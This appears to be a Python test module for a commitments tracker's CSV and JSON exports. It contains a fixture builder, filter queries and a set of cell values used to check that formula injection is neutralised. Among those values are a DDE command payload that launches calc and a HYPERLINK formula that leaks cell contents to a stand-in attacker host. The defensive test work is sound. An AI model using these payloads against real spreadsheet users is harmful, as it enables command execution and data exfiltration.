"""Exports as programs read them, and a world small enough to write its file down."""

import csv
import io
import json
from decimal import Decimal

from commitments.ledger.append import append_entries, new_correction
from commitments.ledger.new_entries import Actor
from tests import factories

CSV = "/commitments.csv"


def body(client, address=CSV):
    answer = client.get(address)
    assert answer.status_code == 200, answer.content
    return b"".join(answer)


def read(client, address=CSV):
    """The rows, as a program reads them: column to cell."""
    return list(csv.DictReader(io.StringIO(body(client, address).decode("utf-8-sig"), newline=""), strict=True))


def tiny_world():
    """Three commitments between which every column has something and nothing."""
    release, area = factories.ReleaseFactory(slug="first"), factories.AreaFactory(slug="culture")
    arts = factories.OrganisationFactory(name="Office of Arts", side="hong_kong")
    city, joint = (
        factories.OrganisationFactory(name=n, side=s) for n, s in (("上海市", "shanghai"), ("Joint Council", "both"))
    )
    first = factories.published(
        reference="AA-01", title="Hold a week", release=release, area=area, owners=[city, arts], partners=[joint],
        quote="will hold a week, in spring", deadline="2019", target=Decimal("40.00"), unit="employees",
        short_title="Week",
    )  # fmt: skip
    slip = {"deadline": "2020-H1", "deadline_reason": "More time."}
    factories.record("report", first, date="2019-10", status="in_progress", **slip)
    urls = [{"url": "https://example.org/a"}, {"url": "https://example.org/b", "source": "independent"}]
    evidence = [factories.evidence(**url) for url in urls]
    fields = {"achieved": "12.50", "note": "Opened.", "evidence": evidence}
    factories.record("report", first, date="2023-11", status="completed", **fields)
    second = factories.published(
        reference="AA-02", title="Train staff", release=release, area=None, owners=[], partners=[arts], kind="target",
        force="estimate", level="aim", owner_inferred=True, owner_note="Not named.", quote="is estimated",
        deadline="2021", deadline_basis="event", target=Decimal(1000), unit="people",
    )  # fmt: skip
    factories.record("context", second, date="2026-01", note="Bears on it.")
    third = factories.published(
        reference="AA-03", title="Meet again", release=factories.ReleaseFactory(slug="second", issued_on="2019-04-01"),
        area=area, owners=[joint], kind="continuing", force="statement", level="umbrella", quote="meet again",
    )  # fmt: skip
    repeats = [{"reference": "AA-01", "why": "It is the same week."}]
    append_entries([new_correction(third, {"repeats": repeats}, "Found since.", Actor())])
    factories.record("report", third, status="stopped", stop_reason="cancelled", note="Called off.")


# A spreadsheet runs a cell that starts with one of these; an apostrophe before it stops that.
RUN = {
    "equals": "=1+1",
    "plus": "+1+1",
    "minus": "-1+1",
    "at": "@SUM(A1)",
    "tab": "\t=1+1",
    "carriage return": "\r=1+1",
    "line feed": "\n=1+1",
    "full-width equals": "＝1+1",
    "full-width plus": "＋1+1",
    "full-width minus": "－1+1",
    "full-width at": "＠SUM(A1)",
    "call": "=cmd|' /C calc'!A0",
    "link": '=HYPERLINK("https://evil.example?"&A1,"click")',
    "quoted": '="a","b"',
    "of two lines": "=1\r\n=2",
}

LEFT_ALONE = {
    "quotes": 'the "big" one',
    "commas": "one, two, three",
    "new lines": "one\ntwo\r\nthree\rfour",
    "sign within": "a=b+c-d@e",
    "apostrophe": "'s Gravenhage",
    "Chinese": "滬港合作會議，第四次",
    "right to left": "\u202etxt.exe\u202c \u200fשלום\u200e",
    "zero width": "a\u200bb\ufeffc",
    "emoji": "🚢 of 👩‍👩‍👧",
    "semicolons": "a; b;c",
    "backslashes": "\\n \\",
    "spaces": "  held apart  ",
    "digits": "0012",
}

# Each filter and each sort stands in one of them; the first finds all, one finds nothing.
QUERIES = [
    "",
    "status=no_report&level=primary&sort=-title",
    "schedule=unreported&schedule=met_late&sort=last_entry",
    "evidence=party&freshness=settled&sort=-schedule",
    "area=culture&sort=-deadline",
    "owner=hksarg&owner=wkcda&sort=status",
    "partner=psa",
    "side=shanghai&kind=agreement&kind=action&q=Shanghai+week&sort=-last_entry",
    "q=nowhere",
    "deadline_from=2019&deadline_to=2020&release=4th-plenary-2018&sort=title",
    "evidence=background&evidence=state_media&sort=last_news",
    "schedule=no_deadline&sort=-last_news",
    "as_of=2019-12-31&status=in_progress&sort=-reference",
]
# Of those, enough to see that an address gives its rows from the list's filter, in its order and as of its day.
SOME = [QUERIES[0], QUERIES[5], QUERIES[-1]]


def document(client, query=""):
    return json.loads(body(client, f"/commitments.json{query}"))
